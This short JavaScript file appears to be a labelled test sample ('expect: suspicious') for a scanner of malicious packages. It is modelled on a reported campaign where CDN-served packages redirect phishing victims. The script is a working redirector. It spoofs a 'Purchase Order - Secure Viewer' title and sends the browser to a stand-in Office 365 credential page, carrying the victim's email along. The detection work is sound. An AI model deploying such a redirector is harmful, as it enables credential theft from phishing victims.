// expect: suspicious
// source: Beamglea (Socket, 2025-10): packages published only to be served by a package CDN as
// the redirector of a phishing lure; the page loads the script and is sent to the credential page.
!function (w, d) {
  var u = 'https://login.lure-host.example/o365', e = '';
  try { e = new URLSearchParams(w.location.search).get('nb') || ''; } catch (x) {}
  d.title = 'Purchase Order - Secure Viewer';
  setTimeout(function () { w.location.replace(u + '#' + encodeURIComponent(e)); }, 1200);
}(window, document);
